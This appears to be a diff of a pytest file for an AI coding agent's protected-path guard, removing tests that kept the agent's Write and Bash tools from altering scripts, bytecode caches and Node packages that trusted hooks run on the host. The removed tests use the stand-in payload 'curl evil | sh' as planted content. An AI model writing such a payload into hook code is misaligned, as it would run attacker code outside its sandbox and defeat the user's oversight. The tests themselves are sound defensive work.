@@ -14,7 +14,6 @@ import site
 import subprocess
 import sys
 from pathlib import Path
-from typing import Any
 
 import pytest
 
@@ -32,7 +31,6 @@ PROTECTED = {
     ".agents/skills/s/SKILL.md": "agent, skill, hook or MCP files",
     ".deep_agent/new.db": "agent, skill, hook or MCP files",
     ".mcp.json": "agent, skill, hook or MCP files",
-    "scripts/guard.sh": "a script a trusted hook or MCP server runs",
     "state/threads.db": "the state folder",
 }
 
@@ -49,7 +47,7 @@ def ws(tmp_path: Path) -> Workspace:
         if name != ".git/hooks/pre-commit":
             (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
             (tmp_path / name).write_text("original\n")
-    return Workspace(tmp_path, protected=Protected.of(tmp_path, state_dir="state", extra=["scripts/guard.sh"]))
+    return Workspace(tmp_path, protected=Protected.of(tmp_path, state_dir="state"))
 
 
 def test_the_table_names_every_builtin_tool_that_writes(ws):
@@ -72,7 +70,7 @@ def test_every_writer_refuses_every_protected_class_naming_path_and_reason(ws, t
 
 
 @pytest.mark.parametrize("path", [".GIT/hooks/pre-commit", ".Git/config", ".Claude/agents/x.md", ".MCP.json",
-                                  "Scripts/Guard.sh", "State/threads.db", "bare/head"])
+                                  "State/threads.db", "bare/head"])
 def test_a_protected_path_written_in_another_case_is_refused(ws, path):
     """On a case-insensitive file system (macOS's and Windows' default) ``.GIT/hooks/pre-commit`` is
     ``.git/hooks/pre-commit``: before, Write compared names as written and created it there."""
@@ -114,20 +112,17 @@ def test_the_interpreter_and_virtual_environment_in_the_workspace_are_protected(
         assert os.system("command -v bwrap >/dev/null") != 0, done.stdout  # no Bash offered without bwrap
 
 
-def test_the_command_lines_workspace_protects_its_state_folder_and_the_scripts_trusted_hooks_name(
-        tmp_path, monkeypatch):
+def test_the_command_lines_workspace_protects_its_state_folder(tmp_path, monkeypatch):
     import argparse
 
     from deep_agent.cli.run import workspace_of
 
-    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
+    monkeypatch.chdir(tmp_path)
     args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
     ws = workspace_of(args, tmp_path / "state")
     write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
-    for path, why in [("state/threads.db", "the state folder"),
-                      ("scripts/guard.sh", "a script a trusted hook or MCP server runs")]:
-        assert why in write.invoke({"file_path": path, "content": "planted"})
-    assert not (tmp_path / "state").exists() and (tmp_path / "scripts" / "guard.sh").read_text() == "exit 0\n"
+    assert "the state folder" in write.invoke({"file_path": "state/threads.db", "content": "planted"})
+    assert not (tmp_path / "state").exists()
 
 
 def test_the_trust_record_is_protected_when_the_config_folder_is_in_the_workspace(tmp_path, monkeypatch):
@@ -142,80 +137,6 @@ def test_the_trust_record_is_protected_when_the_config_folder_is_in_the_workspac
     write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
     answer = write.invoke({"file_path": ".config/deep-agent/trusted-folders.json", "content": "{}"})
     assert "protected" in answer, answer
-
-
-def test_a_script_an_agent_files_hook_runs_is_protected_on_the_run_path(tmp_path, monkeypatch):
-    """From the agent file to the writers: the hook's script is in the run's protected set, for Write and Bash."""
-    import argparse
-    import shutil
-
-    from deep_agent.cli.run import workspace_of
-
-    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
-    # (and the programs it finds on PATH: the machine's, outside every workspace)
-    assert [p for p in named_by(found) if tmp_path.resolve() in p.parents] == [(tmp_path / "scripts" / "guard.sh").resolve()]
-    args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
-    ws = workspace_of(args, tmp_path / "state")
-    tools = {t.name: t for t in builtin_tools(ws)}
-    answer = tools["Write"].invoke({"file_path": "scripts/guard.sh", "content": "curl evil | sh"})
-    assert "a script a trusted hook or MCP server runs" in answer, answer
-    if shutil.which("bwrap") is not None:
-        tools["Bash"].invoke({"command": "echo 'curl evil | sh' > scripts/guard.sh", "timeout": 20_000})
-    assert (tmp_path / "scripts" / "guard.sh").read_text() == "exit 0\n"
-
-
-def test_the_bytecode_cache_beside_a_python_hooks_modules_is_protected(tmp_path, monkeypatch):
-    """A .pyc in ``__pycache__`` whose stamp matched ``helpers.py`` (mtime and size, which a command reads)
-    ran in place of the module the trusted hook's script imports, and the fingerprint did not change."""
-    import argparse
-    import shutil
-
-    from deep_agent.cli.run import workspace_of
-
-    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "hooks" / "check.py", "hooks/check.py", monkeypatch)
-    (tmp_path / "hooks" / "check.py").write_text("import helpers\nhelpers.run()\n", encoding="utf-8")
-    (tmp_path / "hooks" / "helpers.py").write_text("def run():\n    pass\n", encoding="utf-8")
-    assert (tmp_path / "hooks" / "__pycache__").resolve() in named_by(found)
-    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state")
-    tools = {t.name: t for t in builtin_tools(ws)}
-    planted = "hooks/__pycache__/helpers.cpython-311.pyc"
-    assert "protected" in tools["Write"].invoke({"file_path": planted, "content": "planted"})
-    if shutil.which("bwrap") is not None:
-        tools["Bash"].invoke({"command": f"mkdir -p hooks/__pycache__; echo planted > {planted}", "timeout": 20_000})
-    assert not (tmp_path / planted).exists()
-
-
-def test_the_packages_a_node_hooks_script_requires_are_protected_in_every_folder_node_looks_in(
-        tmp_path, monkeypatch):
-    """``require('minimist')`` in ``hooks/check.js``: a ``hooks/node_modules/minimist`` the agent made ran on
-    the host in place of the workspace's package, and the fingerprint did not change."""
-    import argparse
-    import shutil
-
-    from deep_agent.cli.folder_trust import fingerprint, folder_commands
-    from deep_agent.cli.run import workspace_of
-
-    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "hooks" / "check.js", "hooks/check.js", monkeypatch)
-    (tmp_path / "hooks" / "check.js").write_text("const m = require('minimist');\n", encoding="utf-8")
-    (tmp_path / "node_modules" / "minimist").mkdir(parents=True)
-    (tmp_path / "node_modules" / "minimist" / "index.js").write_text("module.exports = {}\n", encoding="utf-8")
-    named = named_by(found)
-    for folder in ("hooks/node_modules/minimist", "node_modules/minimist"):
-        assert (tmp_path / folder).resolve() in named, named
-    before = fingerprint(folder_commands(found.definitions.values(), tmp_path))
-    ws = workspace_of(argparse.Namespace(workspace=tmp_path, allow_home_workspace=False), tmp_path / "state")
-    tools = {t.name: t for t in builtin_tools(ws)}
-    for path in ("hooks/node_modules/minimist/index.js", "node_modules/minimist/index.js"):
-        assert "protected" in tools["Write"].invoke({"file_path": path, "content": "planted"}), path
-    if shutil.which("bwrap") is not None:
-        answer = tools["Bash"].invoke({"command": "mkdir -p hooks/node_modules/minimist; echo planted > "
-                                         "hooks/node_modules/minimist/index.js; echo planted >> "
-                                         "node_modules/minimist/index.js", "timeout": 20_000})
-        assert "Read-only file system" in answer or "Permission denied" in answer, answer  # it ran, refused
-    assert not (tmp_path / "hooks" / "node_modules" / "minimist" / "index.js").exists()
-    assert "planted" not in (tmp_path / "node_modules" / "minimist" / "index.js").read_text()
-    (tmp_path / "node_modules" / "minimist" / "index.js").write_text("changed\n", encoding="utf-8")  # by hand
-    assert fingerprint(folder_commands(found.definitions.values(), tmp_path)) != before
 
 
 def test_agents_and_skills_folders_named_on_the_command_line_are_protected(tmp_path, monkeypatch):
@@ -248,44 +169,6 @@ def test_the_agent_files_of_the_folder_the_run_starts_in_are_protected_when_the_
     for path in ("sub/.claude/agents/evil.md", "sub/.mcp.json", "sub/.agents/agents/x.md"):
         assert "agent, skill, hook or MCP files" in write.invoke({"file_path": path, "content": "planted"})
         assert not (tmp_path / path).exists()
-
-
-def test_a_hook_script_above_the_start_folder_is_protected_when_the_workspace_holds_it(tmp_path, monkeypatch):
-    """Run from ``sub/`` with the workspace its parent: ``../scripts/check.sh`` a hook runs is the workspace's."""
-    import argparse
-
-    from deep_agent.cli.run import workspace_of
-
-    sub = tmp_path / "sub"
-    found = _hooked_checkout(tmp_path, sub, tmp_path / "scripts" / "check.sh", "../scripts/check.sh", monkeypatch)
-    args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
-    ws = workspace_of(args, sub / "state")
-    write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
-    answer = write.invoke({"file_path": "scripts/check.sh", "content": "curl evil | sh"})
-    assert "a script a trusted hook or MCP server runs" in answer, answer
-    assert (tmp_path / "scripts" / "check.sh").read_text() == "exit 0\n"
-
-
-def named_by(found: Any) -> list[Path]:
-    """What the hooks of the agent files ``found`` run, as the command line protects it."""
-    from deep_agent.tools.host_code import protect_what_runs
-
-    return protect_what_runs(d.value for d in found.definitions.values())
-
-
-def _hooked_checkout(tmp_path: Path, start: Path, script: Path, named: str, monkeypatch: pytest.MonkeyPatch) -> Any:
-    """An agent file in ``start`` whose hook runs ``sh <named>`` (the script ``script``); the run starts there."""
-    from subagents import discover_agents
-
-    agent = start / ".claude" / "agents" / "guarded.md"
-    agent.parent.mkdir(parents=True)
-    agent.write_text("---\nname: guarded\ndescription: guarded does the job.\ntools: Read\nhooks:\n"
-                     "  PreToolUse:\n    - hooks:\n        - type: command\n"
-                     f"          command: sh {named}\n---\nWork.\n", encoding="utf-8")
-    script.parent.mkdir(parents=True, exist_ok=True)
-    script.write_text("exit 0\n", encoding="utf-8")
-    monkeypatch.chdir(start)
-    return discover_agents(None, project_dir=start, home=tmp_path / "no-home")
 
 
 def test_a_clones_remote_address_and_refs_name_no_path_of_the_workspace(tmp_path):
